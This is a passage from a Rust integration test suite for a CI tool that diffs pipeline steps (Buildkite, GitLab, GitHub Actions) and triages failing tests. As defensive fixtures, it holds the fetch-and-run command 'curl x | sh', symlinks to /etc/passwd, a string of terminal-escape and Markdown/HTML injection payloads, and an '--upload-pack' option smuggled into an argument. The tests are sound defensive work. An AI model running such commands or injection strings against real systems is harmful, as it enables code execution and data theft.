    assert_eq!(status_of(&json(&out), "a"), "changed");

    // A link that leaves the repository, at the revision: refused, named.
    symlink("/etc/passwd", repo.path().join(".buildkite/outside.yml")).expect("symlink");
    let outside = repo.commit("2026-08-02", "Link out");
    std::fs::remove_file(repo.path().join(".buildkite/outside.yml")).expect("rm");
    let (code, _, err) = repo.layerlock(&["blocks", "--since", &outside]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(".buildkite/outside.yml at "), "{err}");
    assert!(err.contains("outside the repository"), "{err}");

    // A link to nothing in the work tree is no file removed: it cannot be
    // read.
    symlink("../ci/gone.yml", repo.path().join(".buildkite/gone.yml")).expect("symlink");
    let (code, _, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(".buildkite/gone.yml"), "{err}");
}
#[test]
fn ci_files_history_cannot_read_are_reported_by_disabled_by_auto() {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n- key: b\n  command: [oops\n",
    );
    repo.commit("2026-08-01", "Add, one step broken");
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: x\n  command: make\n",
    );
    repo.commit("2026-09-01", "Replace");
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: x\n  command: make\n- key: a\n  command: curl x | sh\n",
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto"]);
    assert_eq!(code, 2, "the old definition could not be read: {out}{err}");
    assert!(err.contains("not valid YAML"), "{err}");
    // Nor can triage tell when the job went dark.
    repo.write(
        "r.xml",
        "<testsuites><testsuite><testcase classname=\"t\" name=\"t\"><failure/></testcase></testsuite></testsuites>",
    );
    let (code, _, err) = repo.layerlock(&["triage", "a=r.xml", "--dark-since", "auto"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not valid YAML"), "{err}");
}

#[test]
fn a_step_or_path_that_names_nothing_is_an_error_not_a_pass() {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    repo.write("README.md", "hi\n");
    let base = repo.commit("2026-08-01", "Add");
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: curl x | sh\n",
    );
    for args in [
        vec!["--step", "typo"],
        vec![".buildkite/typo.yml"],
        vec!["README.md"],
        vec!["nowhere/"],
    ] {
        let mut all = vec!["blocks", "--since", &base];
        all.extend(&args);
        let (code, out, err) = repo.layerlock(&all);
        assert_eq!(code, 2, "{args:?}: {out}{err}");
        let named = args.last().expect("arg").trim_end_matches('/');
        assert!(err.contains(named), "{err}");
    }
    let (code, out, err) =
        repo.layerlock(&["blocks", "--since", &base, "--step", "a", ".buildkite/"]);
    assert_eq!(code, 1, "{out}{err}");

    // Where triage looks for the steps: inside the repository too.
    let (repo, _) = small_dark_job("Change the helper");
    repo.write("layerlock.toml", "[blocks]\npaths = [\"/\"]\n");
    let (code, _, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("outside the repository"), "{err}");
}

#[test]
fn disabled_by_auto_says_so_when_it_stops_looking() {
    // The step was removed before 2,001 commits whose diffs mention its key.
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    repo.commit("2026-01-01", "Add");
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: b\n  command: make\n",
    );
    repo.commit("2026-01-02", "Remove a");
    let mut stream = Vec::new();
    for i in 0..2001 {
        let data = format!("steps:\n- key: b\n  command: make # a {i}\n");
        let from = if i == 0 {
            "from refs/heads/main^0\n"
        } else {
            ""
        };
        stream.extend(
            format!(
                "commit refs/heads/main\ncommitter Dev <dev@example.com> {} +0000\ndata 2\nx\n{from}M 100644 inline .buildkite/pipeline.yml\ndata {}\n{data}\n",
                1_767_400_000 + i,
                data.len()
            )
            .into_bytes(),
        );
    }
    let mut import = Process::new("git")
        .current_dir(repo.path())
        .args(["fast-import", "--quiet"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("git fast-import");
    std::io::Write::write_all(&mut import.stdin.take().expect("stdin"), &stream).expect("feed");
    assert!(import.wait().expect("wait").success());
    repo.git(&["reset", "-q", "--hard"]);
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: b\n  command: make\n- key: a\n  command: curl x | sh\n",
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto"]);
    assert_eq!(code, 2, "not 'added': {out}{err}");
    assert!(err.contains("--disabled-by COMMIT"), "{err}");
}

#[test]
fn a_gitlab_job_is_compared_as_gitlab_runs_it() {
    let repo = Repo::new();
    let pipeline = |image: &str, script: &str, default_image: &str| {
        format!(
            "default:\n  image: {default_image}\nvariables:\n  MODE: fast\n.tests:\n  image: {image}\n  script:\n  - {script}\nunit:\n  extends: .tests\n  stage: test\nlint:\n  script:\n  - ruff check\n"
        )
    };
    repo.write(
        ".gitlab-ci.yml",
        &pipeline("python:3.11", "pytest", "alpine"),
    );
    let base = repo.commit("2026-08-01", "Add");
    // The template's image and script changed; `unit` did not, itself.
    repo.write(
        ".gitlab-ci.yml",
        &pipeline("evil/image", "curl x | sh", "alpine"),
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("changed: job unit"), "{out}");
    assert!(out.contains("+curl x | sh"), "{out}");
    assert!(
        out.contains("image: \"python:3.11\" → \"evil/image\""),
        "{out}"
    );
    assert!(!out.contains("changed: job lint"), "{out}");
    // The pipeline's default image reaches the job that sets none.
    repo.write(
        ".gitlab-ci.yml",
        &pipeline("python:3.11", "pytest", "evil/base"),
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("changed: job lint"), "{out}");
    assert!(
        !out.contains("changed: job unit"),
        "its own image wins: {out}"
    );
    // A template in another GitLab file.
    repo.write(
        ".gitlab-ci.yml",
        "unit:\n  extends: .tests\n  stage: test\n",
    );
    repo.write(
        ".gitlab/ci/templates.yml",
        ".tests:\n  image: python:3.11\n  script:\n  - pytest -x\n",
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--step", "unit"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("+pytest -x"), "{out}");

    // What cannot be resolved is a problem, and loops end.
    repo.write(
        ".gitlab-ci.yml",
        "unit:\n  extends: .missing\n  script: [x]\nloop:\n  extends: .a\n.a:\n  extends: .b\n.b:\n  extends: .a\n",
    );
    let (code, _, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(".missing"), "{err}");
    assert!(err.contains("loop"), "{err}");
    // Templates extending many templates, many levels deep: no blow-up.
    let mut wide = String::from("unit:\n  extends: .t0\n  script: [x]\n");
    for level in 0..4 {
        let next: Vec<String> = (0..50).map(|i| format!(".t{}_{i}", level + 1)).collect();
        wide.push_str(&format!(".t{level}:\n  extends: [{}]\n", next.join(", ")));
        for name in next {
            wide.push_str(&format!(
                "{name}:\n  extends: .t{}\n  variables: {{V{level}: '1'}}\n",
                level + 1
            ));
        }
    }
    wide.push_str(".t4:\n  image: x\n");
    repo.write(".gitlab-ci.yml", &wide);
    let (code, out, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
    assert!(code == 0 || code == 1, "{out}{err}");
}

/// What a pull request's author can write into a report: Markdown and HTML
/// that would break out of a code span, a cell, a fence or the details
/// block; terminal escapes; line breaks.
const HOSTILE: &str = "x` </code></summary></details> <!-- ![p](https://t.example/p.png) [ok](https://e.example) *b* | \u{1b}]0;owned\u{7}\u{1b}[2J \u{202e}";

/// A Markdown line without its code spans (CommonMark's rule: a run of N
/// backticks up to the next run of exactly N), backslash escapes dropped.
fn outside_code(line: &str) -> String {
    let chars: Vec<char> = line.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '\\' if i + 1 < chars.len() && chars[i + 1].is_ascii_punctuation() => i += 2,
            '`' => {
                let run = chars[i..].iter().take_while(|c| **c == '`').count();
                let mut j = i + run;
                let mut closed = None;
                while j < chars.len() {
                    let other = chars[j..].iter().take_while(|c| **c == '`').count();
                    if other == run {
                        closed = Some(j + other);
                        break;
                    }
                    j += other.max(1);
                }
                match closed {
                    Some(end) => i = end,
                    None => {
                        out.extend(&chars[i..i + run]);
                        i += run;
                    }
                }
            }
            ch => {
                out.push(ch);
                i += 1;
            }
        }
    }
    out
}

fn assert_inert_markdown(out: &str) {
    for bad in ["\u{1b}", "\u{7}", "\u{202e}"] {
        assert!(!out.contains(bad), "{bad:?} reached the Markdown:\n{out}");
    }
    let mut fence: Option<String> = None;
    for line in out.lines() {
        if let Some(open) = &fence {
            if line == open {
                fence = None;
            }
            continue;
        }
        if line.starts_with("````") {
            fence = Some(line.trim_end_matches(|c: char| c != '`').to_string());
            continue;
        }
        if line == "</details>" {
            continue;
        }
        if line.starts_with("<details><summary>") {
            assert!(
                !line.contains("<!--") && line.matches('<').count() == 5,
                "{line}"
            );
            continue;
        }
        let text = outside_code(line);
        for bad in ["<!--", "<img", "</", "![", "](", "<code>"] {
            assert!(
                !text.contains(bad),
                "{bad:?} outside code in {line:?}:\n{out}"
            );
        }
        assert!(
            !line.starts_with("## ") && (!line.starts_with('<') || line == "</details>"),
            "a line of the author's: {line:?}"
        );
    }
}

#[test]
fn reports_are_inert_whatever_the_names_messages_and_subjects() {
    // triage: a test name and a message, and a commit subject, all hostile.
    let (repo, _) = small_dark_job(&format!("Change the helper {HOSTILE}"));
    let attr = HOSTILE
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\u{1b}', "&#27;")
        .replace('\u{7}', "&#7;");
    repo.write(
        "reports/r.xml",
        &format!(
            "<testsuites><testsuite><testcase classname=\"tests.test_a\" name=\"test_a[{attr}&#10;    latent]\" file=\"tests/test_a.py\"><failure message=\"{attr}\"/></testcase></testsuite></testsuites>"
        ),
    );
    let (code, md, err) = repo.layerlock(&[
        "triage",
        "kv=reports/r.xml",
        "--dark-since",
        "auto",
        "--format",
        "markdown",
    ]);
    assert_eq!(code, 1, "{md}{err}");
    assert_inert_markdown(&md);
    let items: Vec<&str> = md.lines().filter(|l| l.starts_with("- ")).collect();
    assert_eq!(items.len(), 1, "one failure, one item: {md}");
    let (code, text, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
    assert_eq!(code, 1, "{text}{err}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
        "{text}"
    );
    assert!(
        text.contains("\\x1b]0;owned"),
        "escaped, still legible: {text}"
    );
    assert!(
        !text.contains("\n    latent]"),
        "a test name cannot start a line: {text}"
    );

    // blocks: a step key, a field value with line breaks, a command that
    // closes a four-backtick fence, a disabling commit's subject.
    let repo = Repo::new();
    let key = HOSTILE
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\u{1b}', "\\e")
        .replace('\u{7}', "\\a");
    let step = |command: &str| {
        format!(
            "steps:\n- key: \"{key}\"\n  env:\n    L: [\"x\\n\\n</details>\\n\\n## All clear\\n<!--\"]\n  commands:\n  - \"````\"\n  - {command}\n"
        )
    };
    repo.write(".buildkite/pipeline.yml", &step("make"));
    repo.commit("2026-08-01", "Add");
    repo.write(".buildkite/pipeline.yml", "steps: []\n");
    let disabling = repo.commit("2026-09-01", &format!("Disable {HOSTILE}"));
    repo.write(
        ".buildkite/pipeline.yml",
        &step("make -j9").replace("[\"x", "[\"y"),
    );
    let (code, md, err) = repo.layerlock(&[
        "blocks",
        "--disabled-by",
        &disabling,
        "--format",
        "markdown",
    ]);
    assert_eq!(code, 1, "{md}{err}");
    assert_inert_markdown(&md);
    assert!(!md.contains("\n## All clear"), "{md}");
    let fence = md
        .lines()
        .find(|l| l.ends_with("diff"))
        .expect("a diff fence");
    let close = &fence[..fence.len() - 4];
    assert!(
        close.len() > 4,
        "the fence outgrows the commands' backticks: {md}"
    );
    let after = &md[md.find(fence).expect("fence") + fence.len()..];
    let body = &after[..after.find(&format!("\n{close}\n")).expect("closed")];
    assert!(body.contains("+make -j9"), "the whole diff is fenced: {md}");
    let (_, text, _) = repo.layerlock(&["blocks", "--disabled-by", &disabling]);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
}

#[test]
fn reports_that_are_fifos_or_utf16_are_read_or_refused_without_waiting() {
    let (repo, _) = small_dark_job("Change the helper");
    // A FIFO no one writes to: refused at once, not waited on.
    let fifo = repo.path().join("reports/fifo.xml");
    let made = Process::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let (code, _, err) = repo.layerlock_within(
        20,
        &["triage", "kv=reports/fifo.xml", "--dark-since", "auto"],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("reports/fifo.xml") && err.contains("not a regular file"),
        "{err}"
    );
    // UTF-16 with its byte-order mark, as some JUnit writers save it.
    let xml = repo.work.read("reports/r.xml");
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(repo.path().join("reports/r16.xml"), utf16).expect("write");
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv=reports/r16.xml",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    assert_eq!(
        failure(&json(&out), "tests/test_a.py::test_a")["cause"],
        "latent"
    );
    // A date for the window is shown whole.
    let (_, text, _) =
        repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "2026-09-01"]);
    assert!(
        text.contains("job kv: dark since 2026-09-01T00:00:00Z\n"),
        "{text}"
    );
}

#[cfg(unix)]
#[test]
fn a_test_file_triage_cannot_read_is_an_error_not_unexplained() {
    let (repo, _) = small_dark_job("Change the helper");
    // The failing test's file links out of the repository.
    std::fs::remove_file(repo.path().join("tests/test_a.py")).expect("rm");
    std::os::unix::fs::symlink("/etc/passwd", repo.path().join("tests/test_a.py")).expect("ln");
    repo.commit("2026-10-02", "Link the test out");
    let (code, out, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "auto"]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("tests/test_a.py"), "{err}");
    assert!(!out.contains("root:"), "{out}");
}

#[test]
fn many_stale_xfails_in_one_large_file_take_seconds_not_hours() {
    // 1,500 strict xfail tests that all passed, in a test file of 1 MB:
    // the file is read and scanned once, blamed once.
    let (repo, _) = small_dark_job("Change the helper");
    let mut source = String::from("import helper\nimport pytest\n");
    for i in 0..1500 {
        source.push_str(&format!(
            "\n\n@pytest.mark.xfail(strict=True, reason=\"helper {i}\")\ndef test_x{i}():\n    assert helper.X == 2\n"
        ));
    }
    source.push_str(&"# padding\n".repeat(100_000));
    repo.write("tests/test_a.py", &source);
    repo.commit("2026-10-03", "Many xfails");
    let cases: String = (0..1500)
        .map(|i| format!("<testcase classname=\"tests.test_a\" name=\"test_x{i}\"><failure message=\"[XPASS(strict)] helper {i}\"/></testcase>"))
        .collect();
    repo.write(
        "reports/x.xml",
        &format!("<testsuites><testsuite>{cases}</testsuite></testsuites>"),
    );
    let (code, out, err) = repo.layerlock_within(
        90,
        &[
            "triage",
            "kv=reports/x.xml",
            "--dark-since",
            "auto",
            "--format",
            "json",
        ],
    );
    assert_eq!(code, 1, "{err}");
    let report = json(&out);
    let last = failure(&report, "tests/test_a.py::test_x1499");
    assert_eq!(last["cause"], "stale-xfail");
    assert_eq!(last["xfail"]["reason"], "helper 1499");
    assert_eq!(last["xfail"]["added"]["subject"], "Many xfails");
}

#[test]
fn a_dark_since_revision_off_the_main_line_is_refused() {
    let (repo, _) = small_dark_job("Change the helper");
    // The branch's own commit: the window `REV..merge-base` would be empty
    // and every failure unexplained.
    let (code, out, err) = repo.layerlock(&["triage", "kv=reports/r.xml", "--dark-since", "HEAD"]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("not on the main line"), "{err}");
}

#[test]
fn what_a_workflow_or_pipeline_gives_its_jobs_is_compared_with_them() {
    let repo = Repo::new();
    let workflow = |on: &str, a: &str| {
        format!(
            "on: {on}\nenv:\n  A: '{a}'\njobs:\n  t:\n    runs-on: x\n    steps:\n    - run: pytest\n"
        )
    };
    let pipeline = |a: &str, group_if: &str| {
        format!(
            "env:\n  A: '{a}'\nsteps:\n- group: G\n  key: g\n{group_if}  steps:\n  - key: a\n    command: make\n"
        )
    };
    repo.write(".github/workflows/ci.yml", &workflow("push", "1"));
    repo.write(".buildkite/pipeline.yml", &pipeline("1", ""));
    let base = repo.commit("2026-08-01", "Add");
    // The workflow no longer runs on push; its environment changed.
    repo.write(
        ".github/workflows/ci.yml",
        &workflow("workflow_dispatch", "2"),
    );
    // The pipeline's environment changed, and the group no longer runs.
    repo.write(".buildkite/pipeline.yml", &pipeline("2", "  if: 'false'\n"));
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("changed: job t"), "{out}");
    assert!(
        out.contains("workflow.on: \"push\" → \"workflow_dispatch\""),
        "{out}"
    );
    assert!(out.contains("workflow.env.A: \"1\" → \"2\""), "{out}");
    assert!(out.contains("changed: key a"), "{out}");
    assert!(out.contains("group.if: (absent) → \"false\""), "{out}");
    assert!(out.contains("pipeline.env.A: \"1\" → \"2\""), "{out}");
}

#[test]
fn disabled_by_a_commit_that_disabled_nothing_is_an_error() {
    let (repo, _) = disabled_and_restored();
    // The commit after the disabling one touched the pipeline but removed
    // no step: comparing "the steps it disabled" checks nothing.
    let wrong = repo.git(&["rev-parse", "main"]);
    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", &wrong]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("removed no step"), "{err}");
}

#[test]
fn errors_quote_hostile_names_inertly() {
    let (repo, _) = small_dark_job("Change the helper");
    repo.write(
        "reports/bk.json",
        "[{\"name\":\"t\\u001b]0;owned\\u0007\",\"scope\":\"tests.test_a\",\"result\":\"weird\"}]",
    );
    let (code, _, err) = repo.layerlock(&["triage", "kv=reports/bk.json", "--dark-since", "auto"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("weird"), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
}

#[test]
fn a_sparse_checkout_does_not_remove_the_files_it_leaves_out() {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    repo.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  lint:\n    runs-on: x\n    steps:\n    - run: |\n        ruff check\n        ruff format --check\n",
    );
    repo.write("src/app.py", "");
    let base = repo.commit("2026-08-01", "CI");
    repo.git(&[
        "sparse-checkout",
        "set",
        "--no-cone",
        "/src/",
        "/.buildkite/",
    ]);
    assert!(!repo.path().join(".github/workflows/ci.yml").exists());
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("2 steps compared: 2 unchanged"), "{out}");
    // A multi-line field reads as a diff, not one long quoted string.
    repo.git(&["sparse-checkout", "disable"]);
    repo.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  lint:\n    runs-on: x\n    steps:\n    - uses: some/action@v1\n      with:\n        script: |\n          one\n          two\n",
    );
    repo.commit("2026-08-02", "script");
    repo.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  lint:\n    runs-on: x\n    steps:\n    - uses: some/action@v1\n      with:\n        script: |\n          one\n          three\n",
    );
    let (code, out, _) = repo.layerlock(&["blocks", "--since", "HEAD"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("steps[0].with.script: (several lines; diff below)"),
        "{out}"
    );
    assert!(out.contains("    -two\n    +three\n"), "{out}");
}

/// A clone of `repo` at depth 1 (CI's default checkout), its branches'
/// tips only.
fn shallow_clone(repo: &Repo) -> Repo {
    let clone = Repo { work: Work::new() };
    let source = format!("file://{}", repo.path().display());
    clone.git(&[
        "clone",
        "-q",
        "--depth",
        "1",
        "--no-single-branch",
        "--branch",
        "restore",
        &source,
        ".",
    ]);
    clone
}

#[test]
fn a_shallow_clone_is_named_as_the_reason_never_a_pass() {
    let (repo, _) = disabled_and_restored();
    repo.commit("2026-10-01", "Restore the KV jobs (#65000)");
    let clone = shallow_clone(&repo);
    let mut args = vec!["blocks", "--disabled-by", "auto"];
    args.extend(EDITS);
    let (code, out, err) = clone.layerlock(&args);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("this clone is shallow"), "{err}");
    assert!(err.contains("git fetch --unshallow"), "{err}");
    // Triage: the dark window and the branch reach past the cut.
    let (repo, _) = dark_job();
    let clone = shallow_clone(&repo);
    for shard in ["shard-1.xml", "shard-2.xml"] {
        let report =
            std::fs::read_to_string(repo.path().join("reports").join(shard)).expect("the report");
        clone.write(&format!("reports/{shard}"), &report);
    }
    for dark_since in ["auto", "2026-09-01"] {
        let (code, out, err) = clone.layerlock(&[
            "triage",
            "kv-tests=reports/shard-1.xml",
            "--dark-since",
            dark_since,
        ]);
        assert_eq!(code, 2, "--dark-since {dark_since}: {out}{err}");
        assert!(err.contains("this clone is shallow"), "{err}");
    }
}

/// The dark job's branch, with main's run of the same job: main fails
/// test_store too (its report names the commit it tested); it passes
/// test_handshake, whose cause is latent.
fn with_main_run(repo: &Repo) {
    let main = repo.git(&["rev-parse", "main"]);
    repo.write(
        "reports/main.json",
        &format!(
            r#"{{"run_env": {{"commit_sha": "{main}", "branch": "main"}}, "data": [
{{"scope":"tests/kv/test_nixl.py","name":"test_handshake","file_name":"tests/kv/test_nixl.py","result":"passed"}},
{{"scope":"tests/kv/test_mooncake.py","name":"test_store","file_name":"tests/kv/test_mooncake.py","result":"failed","failure_reason":"assert None"}}
]}}"#
        ),
    );
}

#[test]
fn failures_are_marked_also_on_main_or_only_here() {
    let (repo, _) = dark_job();
    with_main_run(&repo);
    let main = repo.git(&["rev-parse", "main"]);
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "kv-tests=reports/shard-2.xml",
        "--main-report",
        "kv-tests=reports/main.json",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    let store = failure(&report, "tests/kv/test_mooncake.py::test_store");
    assert_eq!(store["on_main"]["status"], "also-on-main");
    assert_eq!(store["on_main"]["commit"], main.as_str());
    let handshake = failure(&report, "tests/kv/test_nixl.py::test_handshake");
    assert_eq!(handshake["on_main"]["status"], "only-here");
    // Latent, yet main passes it: said.
    assert!(
        handshake["note"]
            .as_str()
            .expect("note")
            .contains("main's run passes it: worth a second look"),
        "{handshake}"
    );
    let setup = failure(&report, "tests/kv/test_mooncake.py::test_setup");
    assert_eq!(setup["on_main"]["status"], "not-run-on-main");
    // Text says it too, with main's commit.
    let (_, text, _) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-2.xml",
        "--main-report",
        "kv-tests=reports/main.json",
        "--dark-since",
        "auto",
    ]);
    assert!(
        text.contains(&format!(
            "also on main (main's run at {} fails it too)",
            &main[..12]
        )),
        "{text}"
    );
}

/// Unmerged refs on top of the dark job's repository: a branch and a
/// fetched pull request that touch what test_handshake reads, one that
/// touches an unrelated module, one already merged, and refs with names
/// built to confuse.
fn with_fix_refs(repo: &Repo) {
    // The reports are not committed: kept across the checkouts.
    let shard = std::fs::read_to_string(repo.path().join("reports/shard-1.xml")).expect("report");
    std::fs::remove_dir_all(repo.path().join("reports")).expect("reports");
    let main = repo.git(&["rev-parse", "main"]);
    repo.git(&["checkout", "-q", "-b", "fix/handshake", &main]);
    repo.write("vllm/kv/base.py", "def ok():\n    return True\n");
    repo.commit("2026-10-05", "Fix the KV handshake (#63122)");
    repo.git(&["checkout", "-q", "-b", "pr-test", &main]);
    repo.write(
        "tests/kv/test_nixl.py",
        &format!("{TEST_NIXL}\n# handshake needs the agent up\n"),
    );
    let pr = repo.commit("2026-10-06", "Wait for the agent in the NIXL test");
    repo.git(&["update-ref", "refs/pull/64661/head", &pr]);
    repo.git(&["checkout", "-q", "-b", "unrelated", &main]);
    repo.write("vllm/other.py", "X = 3\n");
    repo.commit("2026-10-07", "Tune X (#64700)");
    // Already on main: nothing to offer.
    repo.git(&["branch", "merged", &main]);
    // Named to look like an option, and to break a line.
    repo.git(&["update-ref", "refs/heads/-evil", "fix/handshake"]);
    repo.git(&["checkout", "-q", "restore"]);
    repo.write("reports/shard-1.xml", &shard);
    // Also a ref git itself will not read: a control byte in its name.
    let packed = repo.path().join(".git/packed-refs");
    let mut text = std::fs::read_to_string(&packed).unwrap_or_default();
    text.push_str(&format!("{pr} refs/heads/ev\u{1b}[2Jil\n"));
    std::fs::write(&packed, text).expect("write packed-refs");
}

#[test]
fn likely_fixes_come_from_unmerged_refs_nearest_first() {
    let (repo, _) = dark_job();
    with_fix_refs(&repo);
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    let handshake = failure(&report, "tests/kv/test_nixl.py::test_handshake");
    let fixes = handshake["possible_fixes"].as_array().expect("fixes");
    let refs: Vec<&str> = fixes
        .iter()
        .map(|f| f["ref_name"].as_str().expect("ref"))
        .collect();
    // The pull request touches the test file itself: nearest, first.
    assert_eq!(refs[0], "pull/64661/head", "{handshake}");
    assert_eq!(fixes[0]["pr"], 64661);
    assert!(
        fixes[0]["reason"]
            .as_str()
            .expect("reason")
            .contains("the test file"),
        "{handshake}"
    );
    // Then the branch (under either of its names), two imports away.
    assert!(
        refs[1] == "fix/handshake" || refs[1] == "-evil",
        "{handshake}"
    );
    assert_eq!(fixes[1]["pr"], 63122);
    assert_eq!(fixes.len(), 2, "{handshake}");
    // Neither the unrelated branch nor the merged one.
    assert!(!out.contains("Tune X"), "{out}");
    assert_eq!(report["fix_refs"]["skipped"], 0);
    // Only the chosen refs when asked.
    let (_, out, _) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "--dark-since",
        "auto",
        "--fix-refs",
        "refs/pull/*/head",
        "--format",
        "json",
    ]);
    let report = json(&out);
    let handshake = failure(&report, "tests/kv/test_nixl.py::test_handshake");
    assert_eq!(
        handshake["possible_fixes"].as_array().expect("fixes").len(),
        1
    );
    // Text and Markdown name them, escaped.
    let (_, text, _) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "--dark-since",
        "auto",
    ]);
    assert!(text.contains("possible fix: pull/64661/head "), "{text}");
    assert!(!text.contains('\u{1b}'), "{text}");
    let (code, _, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "--dark-since",
        "auto",
        "--fix-refs=--upload-pack=x",
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("starts with refs/"), "{err}");
}

#[test]
fn what_passes_after_main_is_merged_is_told_fixed_since_with_the_commit() {
    let (repo, _) = dark_job();
    let (_, first, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "kv-tests=reports/shard-2.xml",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert!(first.contains("test_store"), "{err}");
    let old_head = repo.git(&["rev-parse", "HEAD"]);
    let shards: Vec<String> = ["shard-1", "shard-2"]
        .iter()
        .map(|s| {
            std::fs::read_to_string(repo.path().join(format!("reports/{s}.xml"))).expect("shard")
        })
        .collect();
    std::fs::remove_dir_all(repo.path().join("reports")).expect("reports");
    // Main fixes the store; the branch merges main and runs again.
    repo.git(&["checkout", "-q", "main"]);
    repo.write("vllm/kv/mooncake.py", "def store():\n    return 'handle'\n");
    repo.commit("2026-10-08", "Mooncake: store returns True again (#64993)");
    repo.git(&["checkout", "-q", "restore"]);
    repo.git_at(
        &["merge", "-q", "--no-edit", "-X", "theirs", "main"],
        "2026-10-09T00:00:00Z",
    );
    repo.write("reports/first.json", &first);
    repo.write("reports/shard-1.xml", &shards[0]);
    repo.write("reports/shard-2.xml", &shards[1]);
    repo.write(
        "reports/again.xml",
        r#"<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" tests="2">
<testcase classname="tests.kv.test_mooncake" name="test_store" time="0.001" />
<testcase classname="tests.kv.test_nixl" name="test_handshake" time="0.001"><failure message="assert False">assert False</failure></testcase>
</testsuite></testsuites>"#,
    );
    let check = |previous: &[&str]| {
        let mut args = vec![
            "triage",
            "kv-tests=reports/again.xml",
            "--dark-since",
            "auto",
        ];
        args.extend(previous);
        args.extend(["--format", "json"]);
        let (code, out, err) = repo.layerlock(&args);
        assert_eq!(code, 1, "{out}{err}");
        let report = json(&out);
        let fixed = report["fixed"].as_array().expect("fixed");
        assert_eq!(fixed.len(), 1, "{out}");
        assert_eq!(fixed[0]["node_id"], "tests/kv/test_mooncake.py::test_store");
        assert_eq!(
            subjects(&fixed[0]["commits"]),
            ["Mooncake: store returns True again (#64993)"]
        );
        // Still failing: listed as before.
        failure(&report, "tests/kv/test_nixl.py::test_handshake");
        assert_eq!(report["previous_head"], old_head.as_str());
    };
    check(&["--previous", "reports/first.json"]);
    check(&[
        "--previous",
